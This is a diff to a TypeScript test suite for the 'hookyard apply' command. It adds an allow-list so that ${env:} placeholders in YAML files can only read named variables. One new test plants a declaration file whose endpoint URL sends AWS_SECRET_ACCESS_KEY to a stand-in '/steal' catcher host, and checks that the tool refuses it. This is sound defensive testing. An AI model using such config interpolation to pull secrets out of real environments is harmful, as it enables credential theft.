@@ -58,7 +58,19 @@ async function declarations(files: Record<string, string>): Promise<string> {
   return dir;
 }
 
+/** Applies `dir` with `env` as its environment, allowing each name of `env` (--allow-env). */
 async function apply(
+  server: TestServer,
+  dir: string,
+  env: Record<string, string>,
+  ...flags: string[]
+) {
+  const allow = Object.keys(env).length === 0 ? [] : ["--allow-env", Object.keys(env).join(",")];
+  return applyAs(server, dir, env, ...allow, ...flags);
+}
+
+/** Applies `dir` with `env` as its environment, allowing only what `flags` and `env` say. */
+async function applyAs(
   server: TestServer,
   dir: string,
   env: Record<string, string>,
@@ -202,7 +214,7 @@ describe("hookyard apply", () => {
         'sources:\n  - uid: gh\n    type: github\n    config: { secret: "${env:MISSING}" }\n',
       "c.yaml": "rules:\n  - name: r\n    sources: [gh]\n    actions:\n      - run: ./deploy.sh\n",
     });
-    const result = await apply(server, dir, {});
+    const result = await applyAs(server, dir, {}, "--allow-env", "MISSING");
     expect(result.code).toBe(1);
     const lines = result.err.split("\n");
     expect(lines).toEqual(
@@ -294,5 +306,71 @@ describe("hookyard apply", () => {
     const second = await declarations({ "rules.yaml": RULES });
     const again = await apply(server, second, env);
     expect(again.out.trim()).toBe("= rules (1 file(s))");
+  });
+
+  it("fills ${env:} only from the names allowed, and applies nothing when a file reads another", async () => {
+    const server = await startTestServer();
+    const catcher = "http://127.0.0.1:9/steal";
+    const dir = await declarations({
+      "platform.yaml": `applications:
+  - uid: acme
+    endpoints:
+      - uid: leak
+        url: "${catcher}?k=\${env:AWS_SECRET_ACCESS_KEY}"
+        headers: { x-default: "\${env:CI_TOKEN:-fallback}" }
+sources:
+  - uid: github
+    type: github
+    config: { secret: "\${env:HOOKYARD_APPLY_GH_SECRET}" }
+`,
+      "rules.yaml":
+        'notifiers:\n  team: { type: slack, url: "${env:DEPLOY_SLACK_URL}" }\nrules: []\n',
+    });
+    const env = {
+      AWS_SECRET_ACCESS_KEY: "aws-very-secret",
+      CI_TOKEN: "ci-very-secret",
+      HOOKYARD_APPLY_GH_SECRET: GH_SECRET,
+      DEPLOY_SLACK_URL: SLACK_URL,
+    };
+    const refused = await applyAs(server, dir, env);
+    expect(refused.code).toBe(1);
+    const lines = refused.err.split("\n");
+    const notAllowed = (name: string) =>
+      `\${env:${name}} is not allowed: apply fills only the variables you name (--allow-env ${name}, or HOOKYARD_APPLY_ALLOW_ENV=${name}) and those starting with HOOKYARD_APPLY_`;
+    expect(lines).toEqual(
+      expect.arrayContaining([
+        `${join(dir, "platform.yaml")}:5: applications[0].endpoints[0].url: ${notAllowed("AWS_SECRET_ACCESS_KEY")}`,
+        `${join(dir, "platform.yaml")}:6: applications[0].endpoints[0].headers.x-default: ${notAllowed("CI_TOKEN")}`,
+        `${join(dir, "rules.yaml")}:2: ${notAllowed("DEPLOY_SLACK_URL")}`,
+      ]),
+    );
+    expect(refused.err, "a name refused is said once, not also as not set").not.toContain(
+      "is not set",
+    );
+    expect(refused.err).toContain("nothing was applied");
+    expect(refused.err + refused.out).not.toMatch(/very-secret|hooks\.slack/);
+    expect((await get<{ data: unknown[] }>(server, "/api/v1/app")).data).toEqual([]);
+
+    // Allowed by name, by prefix and through HOOKYARD_APPLY_ALLOW_ENV: applied.
+    const allowed = await applyAs(
+      server,
+      dir,
+      { ...env, HOOKYARD_APPLY_ALLOW_ENV: "CI_TOKEN" },
+      "--allow-env",
+      "AWS_SECRET_ACCESS_KEY",
+      "--allow-env=DEPLOY_*",
+    );
+    expect(allowed.code, allowed.err).toBe(0);
+    const endpoint = await get<{ url: string }>(server, "/api/v1/app/acme/endpoint/leak");
+    expect(endpoint.url).toBe(`${catcher}?k=aws-very-secret`);
+
+    const everything = await applyAs(server, dir, env, "--allow-env", "*");
+    expect(everything.code).toBe(2);
+    expect(everything.err).toMatch(/would let the files read every variable/);
+    const bad = await applyAs(server, dir, { HOOKYARD_APPLY_ALLOW_ENV: "A-B" });
+    expect(bad.code).toBe(2);
+    expect(bad.err).toContain(
+      '"A-B" (--allow-env or HOOKYARD_APPLY_ALLOW_ENV) is not a variable name',
+    );
   });
 });
